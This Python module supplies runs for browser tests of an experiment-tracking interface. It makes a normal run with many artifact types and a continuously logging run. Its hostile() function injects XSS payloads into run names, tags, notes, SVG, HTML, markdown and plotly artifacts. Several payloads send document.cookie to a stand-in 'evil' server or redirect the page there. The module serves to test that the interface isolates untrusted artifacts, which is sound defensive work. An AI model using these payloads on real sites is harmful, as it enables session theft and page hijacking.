"""Runs that a cell of a browser test makes: one with artifacts of every kind, one that goes on, one that is hostile.

Kernels import this module: the tests' server puts the source folder on their path.
"""

import json
import threading
import time

import numpy as np
import pandas as pd
import plotly.graph_objects as go

import jupyter_tracker as tracker

NOTE = "# Forest\n\nThe first **good** one.\n\n| depth | f1 |\n|---|---|\n| 8 | 0.95 |"
BOX = '<rect width="90" height="60" fill="#0a0"/>'
# What a script of an artifact would do if it could reach the page.
HIT = "top.hit=1;parent.hit=1;parent.parent.hit=1;globalThis.hit=1"


def svg(content, attributes=""):
    return f'<svg xmlns="http://www.w3.org/2000/svg" width="90" height="60" {attributes}>{content}</svg>'


def forest(experiment):
    """Make a run with an artifact of each kind that has a preview, and a child."""
    tracker.set_experiment(experiment)
    with tracker.start_run(run_name="forest", description=NOTE) as run:
        tracker.log_params({"n_estimators": 200, "max_depth": 8, "criterion": "gini"})
        tracker.set_tags({"team": "blue"})
        for i in range(100):
            fall = float(np.exp(-i / 30))
            tracker.log_metrics({"train/loss": fall, "val/accuracy": 1 - fall / 2}, step=i)
        tracker.log_metric("test_f1", 0.953)
        tracker.log_input(tracker.data.from_pandas(pd.DataFrame({"x": range(178)}), name="wine"), context="training")
        tracker.log_image(np.tile(np.arange(64) / 64, (48, 1)), "plots/ramp.png")
        figure = go.Figure(go.Scatter(y=[1, 3, 2]), layout={"title": {"text": "A figure"}})
        tracker.log_figure(figure, "plots/figure.json")
        tracker.log_figure(figure, "plots/figure.html")
        tracker.log_text(svg(BOX), "plots/box.svg")
        tracker.log_table(pd.DataFrame({"text": ["good", "bad"], "p": [0.5, 0.25]}), "tables/predictions.json")
        tracker.log_text("# Report\n\nAll *went* well.", "report.md")
        tracker.log_text("def f(x):\n    return x\n", "train.py")
        with tracker.start_run(run_name="fold-1", nested=True):
            tracker.log_metric("f1", 0.9)
    return run


def going():
    """Start a run that logs ten times a second, from a thread, until its caller ends it."""
    tracker.set_experiment("going")
    run = tracker.start_run(run_name="going")
    tracker.log_metric("loss", 1.0, step=0)

    def work():
        for i in range(1, 600):
            tracker.log_metric("loss", 1 / i, step=i, run_id=run.info.run_id)
            time.sleep(0.1)

    threading.Thread(target=work, daemon=True).start()
    return run


def hostile(evil):
    """Make a run that tries to run scripts in the page that shows it, and to tell the server `evil` of it."""
    leak = f"fetch('{evil}/fetch?'+document.cookie);new Image().src='{evil}/image?'+document.cookie"
    go_away = (
        f"try{{open('{evil}/open')}}catch(e){{}};try{{top.location='{evil}/top'}}catch(e){{}};location='{evil}/go'"
    )
    markup = (
        f'<img src="{evil}/markup.png" onerror="{HIT}"><script>{HIT};{leak}</script>'
        f"<style>*{{background:url({evil}/style)}}</style>"
    )
    frame = f"<iframe src='{evil}/frame'></iframe>"
    note = f"# hi\n\n![x]({evil}/note.png)\n\n[click](javascript:{HIT})\n\n{markup}\n\n{frame}"
    tracker.set_experiment("hostile")
    with tracker.start_run(run_name=markup, description=note) as run:
        tracker.log_params({"markup": markup})
        tracker.set_tags({"markup": markup, "mlflow.source.name": markup})
        tracker.log_metric("loss", 1.0)
        picture = f'<image href="{evil}/svg.png" width="9" height="9"/><script>{HIT};{leak};{go_away}</script>'
        frame = f'<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="{evil}/svg-frame"/></foreignObject>'
        tracker.log_text(svg(BOX + picture + frame, f'onload="{HIT}"'), "evil.svg")
        tracker.log_text(_page(evil, markup), "evil.html")
        refresh = f'<meta http-equiv="refresh" content="0;url={evil}/refresh">'
        tracker.log_text(f"{refresh}<p>leaving</p>{markup}<script>{go_away}</script>", "leaving.html")
        tracker.log_text(note, "evil.md")
        tracker.log_text(json.dumps(_figure(evil, markup)), "evil.json")
        tracker.log_text(f"{markup},b\n{markup},2\n", "evil.csv")
        tracker.log_text("not a picture " + markup, "evil.png")
        tracker.log_text("x", "<b onclick=hit()>.txt")
    return run


def _page(evil, markup):
    """Return a page that says what its scripts could reach, and asks another server in every way there is."""
    reach = {"cookie": "document.cookie", "storage": "localStorage.length", "parent": "parent.document.title"}
    reach["top"] = "top.document.title"
    tries = "".join(
        f"try{{{code};said.push('{name} reached')}}catch(e){{said.push('{name} refused')}}"
        for name, code in reach.items()
    )
    asks = (
        f"fetch('{evil}/fetch').catch(()=>0);new Image().src='{evil}/image';navigator.sendBeacon('{evil}/beacon');"
        f"try{{new WebSocket('{evil}/socket'.replace('http','ws'))}}catch(e){{}};"
        f"try{{new EventSource('{evil}/events')}}catch(e){{}}"
    )
    return (
        f'<base href="{evil}/"><link rel="stylesheet" href="{evil}/css">'
        f'<link rel="preload" as="image" href="{evil}/pre">'
        f'<h1>page</h1><p id="said">quiet</p><iframe src="{evil}/inner"></iframe><object data="{evil}/object"></object>'
        f'<video src="{evil}/video"></video><a id="away" href="{evil}/away">away</a>'
        f'<form action="{evil}/form"><button id="send">send</button></form>'
        f"<script>const said=[];{tries}document.getElementById('said').textContent=said.join(', ')</script>"
        f"<script>{asks}</script>{markup}"
    )


def _figure(evil, markup):
    title = f"</script><script>{HIT}</script><a href='javascript:{HIT}'>title</a>{markup}"
    return {
        "data": [{"type": "scatter", "y": [1, 2], "text": [markup, markup], "mode": "markers+text"}],
        "layout": {
            "title": {"text": title},
            "images": [{"source": f"{evil}/plotly.png", "x": 0, "y": 1, "sizex": 1, "sizey": 1}],
            "annotations": [{"text": f"<a href='{evil}/annotation'>a</a>", "x": 0, "y": 1}],
        },
    }
